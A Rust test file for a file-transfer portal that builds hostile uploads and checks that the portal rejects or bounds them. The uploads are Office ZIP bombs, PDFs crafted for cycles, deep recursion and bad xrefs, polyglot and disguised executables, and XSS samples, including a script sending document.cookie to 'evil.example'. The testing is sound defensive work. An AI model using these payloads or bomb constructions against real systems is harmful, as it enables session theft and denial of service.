//! Hostile document content: decompression bombs in Office files, PDFs built to make a parser
//! loop, recurse or allocate without end, and files whose bytes are not what their name says.

use crate::helpers::*;
use crate::input::{file, password, wait_settled};
use reqwest::StatusCode;
use serde_json::{Value, json};
use std::io::Write;
use zip::CompressionMethod;
use zip::write::SimpleFileOptions;

const MIB: usize = 1024 * 1024;
const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
/// What the API keeps of a document's text in its preview, and what extraction keeps in all.
const PREVIEW_CHARS: usize = 280;
const MAX_TEXT_CHARS: usize = 1_000_000;

/// A .docx whose document.xml inflates to 1 GiB, one with thousands of entries and a nested
/// ZIP bomb, and one whose directory is too large to read: each settles, ready or rejected,
/// within a bounded wait, the text (if any) within its caps, and the portal answers meanwhile.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t18_zip_bombs_in_office_files_are_bounded() {
    let app = spawn_logged(vec![], vec![]).await;
    let admin = app.admin_token().await;
    let alice = app.user(&admin, "alice@example.org", &["member"]).await;

    let bomb = docx(|w, opts| {
        w.start_file("word/document.xml", opts).unwrap();
        w.write_all(DOCUMENT_START.as_bytes()).unwrap();
        w.write_all(b"MARKER-T18-BOMB-4e1a ").unwrap();
        let spaces = vec![b' '; MIB];
        for _ in 0..1024 {
            w.write_all(&spaces).unwrap();
        }
        w.write_all(DOCUMENT_END.as_bytes()).unwrap();
    });
    assert!(bomb.len() < 8 * MIB, "the bomb is {} bytes", bomb.len());

    let inner = zip_of(|w, opts| {
        w.start_file("zeros.bin", opts).unwrap();
        let zeros = vec![0u8; MIB];
        for _ in 0..256 {
            w.write_all(&zeros).unwrap();
        }
    });
    let crowded = docx(|w, opts| {
        w.start_file("word/document.xml", opts).unwrap();
        w.write_all(format!("{DOCUMENT_START}MARKER-T18-CROWD-77b0{DOCUMENT_END}").as_bytes())
            .unwrap();
        for i in 0..5000 {
            w.start_file(format!("word/media/part{i}.xml"), opts)
                .unwrap();
            w.write_all(b"<x/>").unwrap();
        }
        let stored = opts
            .compression_method(CompressionMethod::Stored)
            .compression_level(None);
        w.start_file("word/embeddings/inner.zip", stored).unwrap();
        w.write_all(&inner).unwrap();
    });
    // A central directory larger than the validator keeps of an archive's end.
    let sprawling = docx(|w, opts| {
        w.start_file("word/document.xml", opts).unwrap();
        w.write_all(format!("{DOCUMENT_START}MARKER-T18-SPRAWL-2c9d{DOCUMENT_END}").as_bytes())
            .unwrap();
        for i in 0..20_000 {
            w.start_file(
                format!("word/media/a-rather-long-entry-name-{i:06}.xml"),
                opts,
            )
            .unwrap();
        }
    });

    let docs = [
        ("bomb.docx", &bomb),
        ("crowded.docx", &crowded),
        ("sprawling.docx", &sprawling),
    ];
    let files: Vec<Value> = docs.iter().map(|(n, b)| file(n, b, DOCX)).collect();
    let (status, t) = app
        .post(
            "/api/v1/transfers",
            Some(&alice),
            json!({ "recipients": ["bob@example.com"], "subject": "Bombs", "files": files }),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{t}");
    let tid = t["id"].as_str().unwrap().to_owned();
    for (i, (_, bytes)) in docs.iter().enumerate() {
        app.upload(&alice, &t, i, bytes).await;
    }
    let t = wait_settled(&app, &alice, &tid).await;
    for (i, (name, _)) in docs.iter().enumerate() {
        check_bounded(&app, &alice, &t, i, name).await;
    }
    app.assert_log_free_of(&[
        &admin,
        &alice,
        ADMIN_PASSWORD,
        &password("alice@example.org"),
        "MARKER-T18-BOMB-4e1a",
        "MARKER-T18-CROWD-77b0",
        "MARKER-T18-SPRAWL-2c9d",
    ]);
}

/// PDFs whose objects reference each other in cycles, whose page tree is 20,000 levels deep,
/// whose content nests arrays without end, whose stream declares a huge length, or whose
/// cross-reference table is garbage: each settles within a bounded wait, the portal healthy.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t19_hostile_pdfs_are_bounded() {
    let app = spawn_logged(vec![], vec![]).await;
    let admin = app.admin_token().await;
    let alice = app.user(&admin, "alice@example.org", &["member"]).await;

    let font = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";
    let cycles = pdf(&[
        "<< /Type /Catalog /Pages 2 0 R >>".into(),
        "<< /Type /Pages /Kids [3 0 R 2 0 R 4 0 R] /Count 3 /Parent 4 0 R >>".into(),
        "<< /Type /Page /Parent 4 0 R /Resources 5 0 R /Contents 6 0 R /MediaBox [0 0 612 792] >>"
            .into(),
        "<< /Type /Pages /Kids [2 0 R 3 0 R] /Parent 2 0 R /Count 2 /Resources 7 0 R >>".into(),
        "7 0 R".into(),
        stream("BT /F1 12 Tf 72 720 Td (MARKER-T19-CYCLE-0d4f) Tj ET"),
        "5 0 R".into(),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding 9 0 R >>".into(),
        "<< /Differences 8 0 R /BaseEncoding 9 0 R >>".into(),
    ]);

    // The page hangs from the root, and its Parent chain climbs 20,000 levels (lopdf loads a
    // file in time quadratic in its objects: more would only make the test slow).
    let depth = 20_000;
    let first = 3;
    let page = first + depth;
    let mut objects = vec![
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        format!("<< /Type /Pages /Kids [{first} 0 R {page} 0 R] /Count 2 >>"),
    ];
    for level in 0..depth {
        let id = first + level;
        let parent = if level == 0 { 2 } else { id - 1 };
        let kid = id + 1;
        objects.push(format!(
            "<< /Type /Pages /Kids [{kid} 0 R] /Parent {parent} 0 R /Count 1 >>"
        ));
    }
    objects.push(format!(
        "<< /Type /Page /Parent {} 0 R /Resources << /Font << /F1 {} 0 R >> >> /Contents {} 0 R >>",
        page - 1,
        page + 1,
        page + 2
    ));
    objects.push(font.into());
    objects.push(stream(
        "BT /F1 12 Tf 72 720 Td (MARKER-T19-DEEP-a1c2) Tj ET",
    ));
    let deep = pdf(&objects);

    let nesting = 50_000;
    let nested = pdf(&[
        "<< /Type /Catalog /Pages 2 0 R >>".into(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".into(),
        "<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /Annots 6 0 R >>"
            .into(),
        font.into(),
        stream(&format!(
            "BT /F1 12 Tf {}(MARKER-T19-NEST-6b6b){} TJ ET",
            "[".repeat(nesting),
            "]".repeat(nesting)
        )),
        format!("{}{}", "[".repeat(nesting), "]".repeat(nesting)),
    ]);

    let huge_length = pdf(&[
        "<< /Type /Catalog /Pages 2 0 R >>".into(),
        "<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>".into(),
        "<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>"
            .into(),
        font.into(),
        "<< /Length 99999999999999 /Filter /FlateDecode >>\nstream\nBT /F1 12 Tf (MARKER-T19-LEN-3e3e) Tj ET\nendstream"
            .into(),
        "<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 4 0 R >> >> /Contents 7 0 R >>"
            .into(),
        "<< /Length 7 0 R >>\nstream\nBT ET\nendstream".into(),
    ]);

    let mut garbage = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    garbage.extend_from_slice(
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n\
          2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 4294967295 >>\nendobj\n\
          3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n",
    );
    garbage.extend_from_slice(b"xref\n0 2147483647\n");
    garbage.extend(
        noise(64 * 1024, 19)
            .iter()
            .map(|b| b"0123456789 fn\n"[*b as usize % 14]),
    );
    garbage.extend_from_slice(
        b"\nxref\n0 4\n0000000000 65535 f \n9999999999 00000 n \n0000000017 99999 n \n-000000001 00000 n \n\
          trailer\n<< /Size 999999999 /Root 1 0 R /Prev 17 /XRefStm 999999999999 >>\n\
          startxref\n18446744073709551615\n%%EOF\n\
          trailer\n<< /Size 4 /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF\n",
    );

    let docs: [(&str, &Vec<u8>); 5] = [
        ("cycles.pdf", &cycles),
        ("deep.pdf", &deep),
        ("nested.pdf", &nested),
        ("length.pdf", &huge_length),
        ("xref.pdf", &garbage),
    ];
    let files: Vec<Value> = docs
        .iter()
        .map(|(n, b)| file(n, b, "application/pdf"))
        .collect();
    let (status, t) = app
        .post(
            "/api/v1/transfers",
            Some(&alice),
            json!({ "recipients": ["bob@example.com"], "subject": "PDFs", "files": files }),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{t}");
    let tid = t["id"].as_str().unwrap().to_owned();
    for (i, (_, bytes)) in docs.iter().enumerate() {
        app.upload(&alice, &t, i, bytes).await;
    }
    let t = wait_settled(&app, &alice, &tid).await;
    for (i, (name, _)) in docs.iter().enumerate() {
        check_bounded(&app, &alice, &t, i, name).await;
    }
    let (status, _) = app.get("/api/v1/me", &alice).await;
    assert_eq!(status, StatusCode::OK, "the portal still serves requests");

    app.assert_log_free_of(&[
        &admin,
        &alice,
        ADMIN_PASSWORD,
        &password("alice@example.org"),
        "MARKER-T19-CYCLE-0d4f",
        "MARKER-T19-DEEP-a1c2",
        "MARKER-T19-NEST-6b6b",
        "MARKER-T19-LEN-3e3e",
    ]);
}

/// HTML and script declared as PDF, Windows executables named .txt or .pdf, a PDF that is also
/// a .docx (either way round), SVG with script declared as PNG: each is rejected as
/// type_mismatch or type_not_allowed, never ready, and nobody is told of them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t20_disguised_types_and_polyglots_are_rejected() {
    let app = spawn_logged(vec![], vec![]).await;
    let admin = app.admin_token().await;
    let alice = app.user(&admin, "alice@example.org", &["member"]).await;

    let html = b"<!doctype html><html><body><script>fetch('/api/v1/me')</script>MARKER-T20-HTML-11aa</body></html>\n".to_vec();
    let script = b"<script>document.location='https://evil.example/?c='+document.cookie</script>MARKER-T20-JS-22bb\n".to_vec();
    let mut exe = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0".to_vec();
    exe.extend_from_slice(b"This program cannot be run in DOS mode. MARKER-T20-EXE-33cc ");
    exe.extend_from_slice(&noise(4096, 20));
    let text_exe = {
        // Printable all through: only the MZ magic tells what it is.
        let mut t = b"MZ".to_vec();
        t.extend_from_slice(b"P\0\x02\0\0\0\x04\0\x0f\0\xff\xff\0\0 MARKER-T20-EXE2-44dd");
        t
    };
    let docx_part = docx(|w, opts| {
        w.start_file("word/document.xml", opts).unwrap();
        w.write_all(format!("{DOCUMENT_START}MARKER-T20-POLY-55ee{DOCUMENT_END}").as_bytes())
            .unwrap();
    });
    let pdf_then_zip = [
        pdf(&[
            "<< /Type /Catalog /Pages 2 0 R >>".into(),
            "<< /Type /Pages /Kids [] /Count 0 >>".into(),
        ]),
        docx_part.clone(),
    ]
    .concat();
    // A valid .docx whose first entry, stored uncompressed, starts with a PDF header: PDF
    // readers look for the header anywhere in the first KiB.
    let zip_then_pdf = zip_of(|w, opts| {
        let stored = opts
            .compression_method(CompressionMethod::Stored)
            .compression_level(None);
        w.start_file("a", stored).unwrap();
        w.write_all(&pdf(&[
            "<< /Type /Catalog /Pages 2 0 R >>".into(),
            "<< /Type /Pages /Kids [] /Count 0 >>".into(),
        ]))
        .unwrap();
        w.start_file("[Content_Types].xml", opts).unwrap();
        w.write_all(CONTENT_TYPES.as_bytes()).unwrap();
        w.start_file("word/document.xml", opts).unwrap();
        w.write_all(format!("{DOCUMENT_START}MARKER-T20-POLY2-66ff{DOCUMENT_END}").as_bytes())
            .unwrap();
    });
    assert!(
        zip_then_pdf[..zip_then_pdf.len().min(1024)]
            .windows(8)
            .any(|w| w == b"%PDF-1.4"),
        "the PDF header is in the first KiB"
    );
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(document.domain)</script><text>MARKER-T20-SVG-77a0</text></svg>\n".to_vec();

    const NOT_ALLOWED: &[&str] = &["type_not_allowed"];
    const MISMATCH: &[&str] = &["type_mismatch"];
    const EITHER: &[&str] = &["type_mismatch", "type_not_allowed"];
    let docs: Vec<(&str, &[u8], &str, &[&str])> = vec![
        ("invoice.pdf", &html, "application/pdf", NOT_ALLOWED),
        ("invoice2.pdf", &script, "application/pdf", NOT_ALLOWED),
        ("readme.txt", &exe, "text/plain", NOT_ALLOWED),
        ("report.pdf", &exe, "application/pdf", NOT_ALLOWED),
        ("notes.txt", &text_exe, "text/plain", NOT_ALLOWED),
        (
            "setup.pdf",
            &text_exe,
            "application/octet-stream",
            NOT_ALLOWED,
        ),
        ("letter.docx", &pdf_then_zip, DOCX, MISMATCH),
        ("letter2.docx", &zip_then_pdf, DOCX, EITHER),
        ("logo.png", &svg, "image/png", NOT_ALLOWED),
        ("logo.svg", &svg, "image/svg+xml", NOT_ALLOWED),
    ];
    let files: Vec<Value> = docs.iter().map(|(n, b, ct, _)| file(n, b, ct)).collect();
    let (status, t) = app
        .post(
            "/api/v1/transfers",
            Some(&alice),
            json!({ "recipients": ["bob@example.com"], "subject": "Disguised", "files": files }),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{t}");
    let tid = t["id"].as_str().unwrap().to_owned();
    for (i, (_, bytes, _, _)) in docs.iter().enumerate() {
        app.upload(&alice, &t, i, bytes).await;
    }
    let t = wait_settled(&app, &alice, &tid).await;
    for (i, (name, _, _, reasons)) in docs.iter().enumerate() {
        let doc = &t["documents"][i];
        assert_eq!(doc["name"], *name);
        assert_eq!(doc["status"], "rejected", "{name}: {doc}");
        let reason = doc["reason"].as_str().unwrap();
        assert!(reasons.contains(&reason), "{name}: {reason}");
        let did = doc["id"].as_str().unwrap();
        let (status, _) = app
            .get(
                &format!("/api/v1/transfers/{tid}/documents/{did}/content"),
                &alice,
            )
            .await;
        assert_eq!(status, StatusCode::GONE, "{name}");
    }
    // With nothing left to send the transfer ended, and only the sender heard of it.
    assert_eq!(t["status"], "cancelled");
    app.wait_for_mail("alice@example.org", "Not sent:", 1).await;
    assert!(
        app.mails()
            .await
            .iter()
            .all(|(to, _, _)| to.contains("alice@example.org")),
        "a recipient was told of rejected documents"
    );
    let markers = [
        "MARKER-T20-HTML-11aa",
        "MARKER-T20-JS-22bb",
        "MARKER-T20-EXE-33cc",
        "MARKER-T20-EXE2-44dd",
        "MARKER-T20-SVG-77a0",
    ];
    for marker in markers {
        assert_eq!(dir_contains(&app.data_dir, marker.as_bytes()), None);
    }
    let mut secrets = vec![
        admin.as_str(),
        alice.as_str(),
        ADMIN_PASSWORD,
        "MARKER-T20-POLY-55ee",
        "MARKER-T20-POLY2-66ff",
    ];
    let alice_password = password("alice@example.org");
    secrets.push(&alice_password);
    secrets.extend(markers);
    app.assert_log_free_of(&secrets);
}

/// The document settled as ready or rejected; if ready, its preview and text are within caps.
async fn check_bounded(app: &TestApp, token: &str, t: &Value, index: usize, name: &str) {
    let doc = &t["documents"][index];
    assert_eq!(doc["name"], name);
    let status = doc["status"].as_str().unwrap();
    assert!(["ready", "rejected"].contains(&status), "{name}: {doc}");
    if status != "ready" {
        return;
    }
    if let Some(preview) = doc["text_preview"].as_str() {
        assert!(preview.chars().count() <= PREVIEW_CHARS, "{name}");
    }
    let (tid, did) = (t["id"].as_str().unwrap(), doc["id"].as_str().unwrap());
    let (status, text) = app
        .get(
            &format!("/api/v1/transfers/{tid}/documents/{did}/text"),
            token,
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{name}: {text}");
    let chars: usize = text["pages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["text"].as_str().unwrap_or_default().chars().count())
        .sum();
    assert!(
        chars <= MAX_TEXT_CHARS,
        "{name}: {chars} characters of text"
    );
}

const CONTENT_TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
const RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
const DOCUMENT_START: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>"#;
const DOCUMENT_END: &str = "</w:t></w:r></w:p></w:body></w:document>";

type Writer = zip::ZipWriter<std::io::Cursor<Vec<u8>>>;

/// A ZIP archive built in memory by `entries`, deflated unless an entry says otherwise.
fn zip_of(entries: impl FnOnce(&mut Writer, SimpleFileOptions)) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default()
        .compression_method(CompressionMethod::Deflated)
        .compression_level(Some(9));
    entries(&mut w, opts);
    w.finish().unwrap().into_inner()
}

/// A .docx: the package's content types and relationships, then `entries` (which add
/// word/document.xml).
fn docx(entries: impl FnOnce(&mut Writer, SimpleFileOptions)) -> Vec<u8> {
    zip_of(|w, opts| {
        w.start_file("[Content_Types].xml", opts).unwrap();
        w.write_all(CONTENT_TYPES.as_bytes()).unwrap();
        w.start_file("_rels/.rels", opts).unwrap();
        w.write_all(RELS.as_bytes()).unwrap();
        entries(w, opts);
    })
}

/// A content stream object.
fn stream(content: &str) -> String {
    format!(
        "<< /Length {} >>\nstream\n{content}\nendstream",
        content.len()
    )
}

/// A PDF of these objects (numbered from 1, the first the catalog) with a correct xref table.
fn pdf(objects: &[String]) -> Vec<u8> {
    let mut out = b"%PDF-1.4\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let mut offsets = Vec::with_capacity(objects.len());
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for offset in offsets {
        out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}
